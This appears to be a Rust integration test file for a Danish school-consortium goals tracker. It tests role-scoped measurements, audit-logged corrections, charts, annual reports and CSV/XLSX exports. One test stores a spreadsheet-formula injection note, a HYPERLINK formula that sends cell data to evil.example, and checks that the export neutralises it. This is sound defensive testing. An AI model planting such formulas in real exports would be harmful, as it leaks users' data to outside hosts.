//! Goals: measurements by role, corrections kept, charts with baseline and target, automatic
//! indicators, the report and the exports.

mod common;

use axum::http::StatusCode;
use common::*;
use uuid::Uuid;

async fn indicator(app: &TestApp, name: &str) -> Uuid {
    sqlx::query_scalar("SELECT id FROM indicators WHERE name = $1")
        .bind(name)
        .fetch_one(&app.pool)
        .await
        .unwrap()
}

async fn goal_of(app: &TestApp, ind: Uuid) -> Uuid {
    sqlx::query_scalar("SELECT goal_id FROM indicators WHERE id = $1")
        .bind(ind)
        .fetch_one(&app.pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn a_school_leader_enters_this_years_measurement_and_the_chart_changes() {
    let app = TestApp::demo().await;
    let excl = indicator(&app, "Eksklusionsprocent").await;
    let goal = goal_of(&app, excl).await;
    let eng = app
        .id_of("SELECT id FROM organisations WHERE name = 'Engbakkeskolen (demo)'")
        .await;
    let hede = app
        .id_of("SELECT id FROM organisations WHERE name = 'Hedelundskolen (demo)'")
        .await
        .to_string();

    let mut leader = app.login_as(SKOLELEDER).await;
    let before = leader.get(&format!("/maal/{goal}")).await;
    assert!(
        before.body.contains("Engbakkeskolen (demo)") && !before.body.contains("4,2 % (2025/26)")
    );
    let form = leader.get(&format!("/indikatorer/{excl}/maaling")).await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(
        !form.body.contains("name=\"skole\""),
        "a leader cannot choose another school"
    );
    // Decimal comma accepted; the school field is ignored if forged.
    let r = leader
        .post_form(
            &format!("/indikatorer/{excl}/maaling"),
            &[
                ("csrf", &form.csrf()),
                ("skole", &hede),
                ("periode", "2025/26"),
                ("vaerdi", "4,2"),
                ("note", "Opgjort 5. september."),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let stored: Option<Uuid> = sqlx::query_scalar(
        "SELECT organisation_id FROM measurements WHERE indicator_id = $1 AND period = '2025/26'",
    )
    .bind(excl)
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!(stored, Some(eng), "stored for the leader's own school");
    let after = leader.get(&format!("/maal/{goal}")).await;
    assert!(
        after.body.contains("4,2 % (2025/26)"),
        "the new value is the latest: {}",
        after
            .body
            .split("Eksklusionsprocent")
            .nth(1)
            .unwrap_or("")
            .chars()
            .take(3000)
            .collect::<String>()
    );
    // Baseline 6,5 → target 4: 4,2 is 92 % of the way for the school.
    assert!(
        after
            .body
            .contains("92 % af vejen fra udgangspunkt til mål.")
    );
    assert!(
        after
            .body
            .contains("<th scope=\"row\">2025/26</th><td>4,2 %</td>"),
        "the number is in the table beneath the chart"
    );

    // The coordinator sees the school's chart change too.
    let mut coord = app.login_as(KOORDINATOR).await;
    let view = coord.get(&format!("/maal/{goal}?visning={eng}")).await;
    assert!(view.body.contains("4,2 % (2025/26)"));
    // One school's early number does not speak for the consortium: its average waits for all.
    let whole = coord.get(&format!("/maal/{goal}")).await;
    assert!(
        !whole
            .body
            .contains("Seneste: <strong>4,2 % (2025/26)</strong>")
    );
    assert!(
        whole
            .body
            .contains("Seneste: <strong>6,4 % (2024/25)</strong>")
    );
    assert!(
        whole
            .body
            .contains("Hele konsortiet: gennemsnit af 4 skoler, kun år hvor alle har målt"),
        "{}",
        whole
            .body
            .split("udsyn-muted")
            .nth(1)
            .unwrap_or("")
            .chars()
            .take(200)
            .collect::<String>()
    );
    app.finish().await;
}

#[tokio::test]
async fn measurements_are_scoped_by_role_and_checked() {
    let app = TestApp::demo().await;
    let excl = indicator(&app, "Eksklusionsprocent").await;
    let youth = indicator(
        &app,
        "Elever fra specialtilbud, der starter en ungdomsuddannelse",
    )
    .await;
    let auto = indicator(
        &app,
        "Ledere og nøglemedarbejdere med en gennemført mobilitet",
    )
    .await;
    let lead = indicator(&app, "Ledelse af inklusion på skolen").await;
    let mut leader = app.login_as(SKOLELEDER).await;
    let mut staff = app.login_as(MEDARBEJDER).await;
    let mut coord = app.login_as(KOORDINATOR).await;
    assert_eq!(
        leader
            .get(&format!("/indikatorer/{youth}/maaling"))
            .await
            .status,
        StatusCode::FORBIDDEN,
        "consortium-wide: not the leader's"
    );
    assert_eq!(
        staff
            .get(&format!("/indikatorer/{excl}/maaling"))
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        coord
            .get(&format!("/indikatorer/{auto}/maaling"))
            .await
            .status,
        StatusCode::BAD_REQUEST,
        "counted by Udsyn"
    );
    assert_eq!(
        staff.get("/maal").await.status,
        StatusCode::OK,
        "everyone may read the goals"
    );

    let csrf = leader.get("/").await.csrf();
    let before = app.count("SELECT count(*) FROM measurements").await;
    for (fields, message) in [
        (
            vec![("periode", "2025/26"), ("vaerdi", "120")],
            "Værdien skal ligge mellem 0 og 100.",
        ),
        (
            vec![("periode", "2025-2026"), ("vaerdi", "4")],
            "Skriv skoleåret som 2025/26.",
        ),
        (
            vec![("periode", "2025/26"), ("vaerdi", "fire")],
            "Værdien skal være et tal",
        ),
        (
            vec![("periode", "2025/26"), ("vaerdi", "")],
            "Skriv værdien, fx 12,5.",
        ),
    ] {
        let mut f = vec![("csrf", csrf.as_str())];
        f.extend(fields);
        let r = leader
            .post_form(&format!("/indikatorer/{excl}/maaling"), &f)
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{message}");
        assert!(r.body.contains(message), "{message}");
    }
    // A qualitative indicator needs a level and evidence.
    let r = leader
        .post_form(
            &format!("/indikatorer/{lead}/maaling"),
            &[("csrf", &csrf), ("periode", "2025/26"), ("niveau", "7")],
        )
        .await;
    assert!(
        r.body.contains("Vælg et niveau fra 1 til 4.")
            && r.body.contains("Skriv et kort belæg for niveauet.")
    );
    assert_eq!(
        app.count("SELECT count(*) FROM measurements").await,
        before,
        "nothing saved"
    );

    // A correction keeps the old value in the history.
    let c = coord.get("/").await.csrf();
    let r = coord
        .post_form(
            &format!("/indikatorer/{youth}/maaling"),
            &[
                ("csrf", &c),
                ("skole", ""),
                ("periode", "2024/25"),
                ("vaerdi", "59,5"),
                ("note", "Rettet tal fra UU."),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    assert_eq!(
        app.count("SELECT count(*) FROM measurements").await,
        before,
        "corrected, not added"
    );
    let old: String =
        sqlx::query_scalar("SELECT before->>'value' FROM audit_log WHERE action = 'måling rettet'")
            .fetch_one(&app.pool)
            .await
            .unwrap();
    assert_eq!(old, "58");
    let form = coord.get(&format!("/indikatorer/{youth}/maaling")).await;
    assert!(form.body.contains("59,5 %"));
    app.finish().await;
}

#[tokio::test]
async fn charts_draw_the_baseline_and_target_and_automatic_indicators_count_themselves() {
    let app = TestApp::demo().await;
    let goals: Vec<(i16, Uuid)> = sqlx::query_as("SELECT number, id FROM goals ORDER BY number")
        .fetch_all(&app.pool)
        .await
        .unwrap();
    let mut coord = app.login_as(KOORDINATOR).await;
    let g3 = coord.get(&format!("/maal/{}", goals[2].1)).await;
    let charts = g3.body.matches("class=\"udsyn-linechart\"").count();
    assert_eq!(charts, 3, "one chart per indicator of Mål 3");
    assert_eq!(g3.body.matches("class=\"udsyn-baseline\"").count(), 3);
    assert_eq!(g3.body.matches("class=\"udsyn-target\"").count(), 3);
    assert!(
        g3.body
            .contains("Udgangspunkt 6,5 % (2022/23), mål 4 % (2026/27)."),
        "the chart describes itself"
    );
    assert!(
        g3.body
            .contains("<th scope=\"row\">Udgangspunkt</th><td>6,5 % (2022/23)</td>")
    );
    // Consortium view of a per-school indicator: the average of the schools.
    assert!(
        g3.body.contains("2024/25: 6,4 %"),
        "(4,9 + 6,0 + 6,2 + 8,4) / 4 = 6,375"
    );
    // Mål 1 counts leaders who completed a mobility serving it: Graz (3) and Nicosia (2).
    let g1 = coord.get(&format!("/maal/{}", goals[0].1)).await;
    assert!(
        g1.body.contains("5 personer (2026/27)"),
        "counted from completed mobilities: {}",
        g1.body
            .split("Ledere og nøglemedarbejdere med en gennemført mobilitet")
            .nth(1)
            .unwrap_or("")
            .chars()
            .take(2500)
            .collect::<String>()
    );
    assert!(g1.body.contains("tælles af Udsyn"));
    // The desk shows every goal in one line.
    let start = coord.get("/").await;
    let lines = start
        .body
        .split("<ul class=\"udsyn-goal-lines\">")
        .nth(1)
        .and_then(|l| l.split("</ul>").next())
        .expect("the goal lines");
    assert_eq!(lines.matches("<li>").count(), 3);
    let mut leader = app.login_as(SKOLELEDER).await;
    let lstart = leader.get("/").await;
    assert!(
        lstart.body.contains("4,9 % (2024/25)"),
        "the leader's dashboard shows their school"
    );
    app.finish().await;
}

#[tokio::test]
async fn the_annual_report_and_the_exports() {
    let app = TestApp::demo().await;
    let mut coord = app.login_as(KOORDINATOR).await;
    let report = coord.get("/maal/rapport/2025").await;
    assert_eq!(report.status, StatusCode::OK);
    assert!(report.body.contains("Målrapport for skoleåret 2024/25"));
    assert!(
        report.body.contains("Universal Design for Learning")
            || report
                .body
                .contains("Centro de Formação Inclusiva do Porto"),
        "a mobility completed that year"
    );
    assert!(
        !report.body.contains("<th scope=\"row\">2025/26</th>"),
        "nothing after the school year"
    );
    assert_eq!(
        coord.get("/maal/rapport/abc").await.status,
        StatusCode::NOT_FOUND
    );
    let css = coord.get("/static/app.css").await;
    assert!(css.body.contains("@page { size: A4;") && css.body.contains("@media print"));

    let csv = coord.get("/maal/eksport/maalinger.csv").await;
    assert!(
        csv.body
            .starts_with("\u{feff}Mål;Indikator;Skole;Skoleår;Værdi")
    );
    let n = app.count("SELECT count(*) FROM measurements").await as usize;
    assert_eq!(csv.body.lines().count(), n + 1);

    let xlsx = coord
        .request(
            axum::http::Request::get("/maal/eksport/maalinger.xlsx")
                .body(axum::body::Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(xlsx.status, StatusCode::OK);
    let bytes: Vec<u8> = {
        // The test client keeps bodies as text; fetch the bytes again through the router.
        use http_body_util::BodyExt;
        use tower::ServiceExt;
        let mut req = axum::http::Request::get("/maal/eksport/maalinger.xlsx")
            .body(axum::body::Body::empty())
            .unwrap();
        req.headers_mut()
            .insert("cookie", coord.cookie.clone().unwrap().parse().unwrap());
        let resp = app.router.clone().oneshot(req).await.unwrap();
        resp.into_body()
            .collect()
            .await
            .unwrap()
            .to_bytes()
            .to_vec()
    };
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).expect("a real XLSX file");
    let sheet = book.worksheet_range("Målinger").unwrap();
    assert_eq!(
        sheet.height(),
        n + 1,
        "a header row and one row per measurement"
    );
    let rows: Vec<Vec<Data>> = sheet.rows().map(|r| r.to_vec()).collect();
    assert_eq!(rows[0][1], Data::String("Indikator".into()));
    assert!(
        rows.iter()
            .any(|r| r[1] == Data::String("Eksklusionsprocent".into())
                && r[2] == Data::String("Engbakkeskolen (demo)".into())
                && r[4] == Data::Float(4.9)),
        "Engbakkeskolen's 4,9 % is a number in the sheet"
    );
    let mut leader = app.login_as(SKOLELEDER).await;
    assert_eq!(
        leader.get("/maal/eksport/maalinger.xlsx").await.status,
        StatusCode::FORBIDDEN
    );
    app.finish().await;
}

#[tokio::test]
async fn the_coordinator_edits_goals_and_indicators() {
    let app = TestApp::demo().await;
    let goal = app.id_of("SELECT id FROM goals WHERE number = 2").await;
    let mut coord = app.login_as(KOORDINATOR).await;
    let c = coord.get("/").await.csrf();
    let r = coord
        .post_form(
            &format!("/maal/{goal}/rediger"),
            &[("csrf", &c), ("title", ""), ("status", "aktiv")],
        )
        .await;
    assert!(r.body.contains("Skriv målets titel."));
    let r = coord
        .post_form(
            &format!("/maal/{goal}/rediger"),
            &[
                ("csrf", &c),
                ("title", "Mål 2: Nye greb i klassen"),
                ("description", "x"),
                ("results_year", "3"),
                ("status", "aktiv"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let r = coord
        .post_form(
            &format!("/maal/{goal}/indikatorer/ny"),
            &[
                ("csrf", &c),
                ("name", "Elever i specialklasser med fuldt skema"),
                ("kind", "kvantitativ"),
                ("unit", "%"),
                ("retning", "op"),
                ("omfang", "skole"),
                ("baseline_value", "70"),
                ("baseline_period", "2022/23"),
                ("target_value", "70"),
                ("target_period", "2026/27"),
                ("min_value", "0"),
                ("max_value", "100"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let page = coord.get(&format!("/maal/{goal}")).await;
    assert!(
        page.body.contains("Nye greb i klassen")
            && page
                .body
                .contains("Elever i specialklasser med fuldt skema")
    );
    let r = coord
        .post_form(
            &format!("/maal/{goal}/indikatorer/ny"),
            &[
                ("csrf", &c),
                ("name", "Forkert"),
                ("kind", "kvantitativ"),
                ("baseline_value", "170"),
                ("max_value", "100"),
                ("min_value", "0"),
                ("baseline_period", "22/23"),
            ],
        )
        .await;
    assert!(
        r.body
            .contains("Værdien ligger uden for indikatorens mulige værdier.")
            && r.body.contains("Skriv skoleåret som 2022/23.")
    );
    let mut leader = app.login_as(SKOLELEDER).await;
    assert_eq!(
        leader.get(&format!("/maal/{goal}/rediger")).await.status,
        StatusCode::FORBIDDEN
    );
    app.finish().await;
}

#[tokio::test]
async fn reports_and_follow_ups_count_towards_the_goals() {
    let app = TestApp::demo().await;
    let goals: Vec<(i16, Uuid)> = sqlx::query_as("SELECT number, id FROM goals ORDER BY number")
        .fetch_all(&app.pool)
        .await
        .unwrap();
    let mut coord = app.login_as(KOORDINATOR).await;
    // Mål 1: five submitted reports are tagged with it (Graz and Nicosia).
    let g1 = coord.get(&format!("/maal/{}", goals[0].1)).await;
    assert!(
        g1.body
            .contains("Seneste: <strong>5 rapporter (2026/27)</strong>"),
        "reports tagged with the goal are counted"
    );
    // Mål 2: both followed-up participants changed their practice; one more who did not makes 2 of 3.
    let g2 = coord.get(&format!("/maal/{}", goals[1].1)).await;
    assert!(
        g2.body
            .contains("Seneste: <strong>100 % (2026/27)</strong>")
    );
    sqlx::query(
        "INSERT INTO follow_ups (report_id, changed) SELECT id, 'nej' FROM reports WHERE staff_id = (SELECT id FROM staff WHERE name = 'Julie Winther')",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    let g2 = coord.get(&format!("/maal/{}", goals[1].1)).await;
    assert!(
        g2.body
            .contains("Seneste: <strong>66,7 % (2026/27)</strong>"),
        "the share follows the answers"
    );
    app.finish().await;
}

/// The measurements export read back as a spreadsheet would: BOM stripped, `;` between cells.
fn csv_rows(body: &str) -> Vec<Vec<String>> {
    let text = body
        .strip_prefix('\u{feff}')
        .expect("the export starts with a BOM for Excel");
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("a CSV record").iter().map(String::from).collect())
        .collect()
}

#[tokio::test]
async fn an_exported_note_cannot_run_as_a_formula_and_typed_numbers_read_the_danish_way() {
    let app = TestApp::demo().await;
    let goal = app.id_of("SELECT id FROM goals WHERE number = 3").await;
    let eng = app
        .id_of("SELECT id FROM organisations WHERE name = 'Engbakkeskolen (demo)'")
        .await
        .to_string();
    let mut coord = app.login_as(KOORDINATOR).await;
    let c = coord.get("/").await.csrf();
    // A quantitative indicator whose values may be negative and run into the thousands.
    let name = "Ændring i elevfravær (timer)";
    let r = coord
        .post_form(
            &format!("/maal/{goal}/indikatorer/ny"),
            &[
                ("csrf", &c),
                ("name", name),
                ("kind", "kvantitativ"),
                ("unit", "timer"),
                ("retning", "ned"),
                ("omfang", "skole"),
                ("min_value", "-10000"),
                ("max_value", "10000"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let ind = indicator(&app, name).await;

    let form = coord.get(&format!("/indikatorer/{ind}/maaling")).await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(
        form.body.contains(
            "Komma er decimaltegn (4,5); punktum skiller tusinder (1.234 er tusind og 234)."
        ),
        "the value field says how numbers are read"
    );
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")";
    for (period, value, note) in [
        ("2023/24", "-3,5", formula),
        ("2024/25", "1.234", "Tusindtal med punktum."),
        ("2025/26", "4,5", "Decimaltal med komma."),
    ] {
        let r = coord
            .post_form(
                &format!("/indikatorer/{ind}/maaling"),
                &[
                    ("csrf", &form.csrf()),
                    ("skole", &eng),
                    ("periode", period),
                    ("vaerdi", value),
                    ("note", note),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{value}: {}", r.body);
    }
    let stored: Vec<(String, f64, String)> = sqlx::query_as(
        "SELECT period, value::float8, note FROM measurements WHERE indicator_id = $1 ORDER BY period",
    )
    .bind(ind)
    .fetch_all(&app.pool)
    .await
    .unwrap();
    assert_eq!(
        stored,
        vec![
            ("2023/24".to_string(), -3.5, formula.to_string()),
            (
                "2024/25".to_string(),
                1234.0,
                "Tusindtal med punktum.".to_string()
            ),
            (
                "2025/26".to_string(),
                4.5,
                "Decimaltal med komma.".to_string()
            ),
        ],
        "1.234 is one thousand two hundred and thirty-four; the note is kept as typed"
    );

    let export = coord.get("/maal/eksport/maalinger.csv").await;
    assert_eq!(export.status, StatusCode::OK);
    let rows = csv_rows(&export.body);
    assert_eq!(rows[0][4], "Værdi");
    assert_eq!(rows[0][7], "Note", "{:?}", rows[0]);
    let ours: Vec<&Vec<String>> = rows.iter().filter(|r| r[1] == name).collect();
    assert_eq!(ours.len(), 3, "{ours:?}");
    let row = |period: &str| {
        *ours
            .iter()
            .find(|r| r[3] == period)
            .unwrap_or_else(|| panic!("a row for {period}"))
    };
    let evil = row("2023/24");
    assert!(
        evil[7].starts_with("'=HYPERLINK"),
        "the formula is text: {:?}",
        evil[7]
    );
    assert_eq!(evil[7], format!("'{formula}"), "and otherwise unchanged");
    assert_eq!(evil[4], "-3,5", "a negative number stays a number");
    assert_eq!(evil[2], "Engbakkeskolen (demo)");
    assert_eq!(row("2024/25")[4], "1234");
    assert_eq!(row("2025/26")[4], "4,5");
    app.finish().await;
}

#[tokio::test]
async fn the_goals_page_links_the_annual_goal_report() {
    let app = TestApp::demo().await;
    // The demo's clock is today's: this school year's report and last year's.
    let today = chrono::Local::now().date_naive();
    let period = udsyn::domain::progress::period_of(today);
    let end: i32 = period[..4].parse::<i32>().unwrap() + 1;
    for who in [KOORDINATOR, SKOLELEDER] {
        let mut c = app.login_as(who).await;
        let page = c.get("/maal").await;
        let link = format!("<a href=\"/maal/rapport/{end}\">Målrapport for skoleåret {period}</a>");
        assert!(page.body.contains(&link), "{who}: {link}");
        assert!(page.body.contains(&format!("/maal/rapport/{}", end - 1)));
        assert_eq!(
            c.get(&format!("/maal/rapport/{end}")).await.status,
            StatusCode::OK
        );
    }
    // The charts write the unit once above the y axis, not in the top tick label (cut off on
    // the left before).
    let mut coord = app.login_as(KOORDINATOR).await;
    let goals = coord.get("/maal").await;
    assert!(
        goals
            .body
            .contains("<text x=\"4\" y=\"14\" font-size=\"13\" fill=\"#454545\">personer</text>")
    );
    assert!(
        !goals.body.contains(" personer</text>"),
        "no tick label with the unit"
    );
    // Staff cannot open the report, so they get no link.
    let mut staff = app.login_as(MEDARBEJDER).await;
    assert!(!staff.get("/maal").await.body.contains("/maal/rapport/"));
    app.finish().await;
}
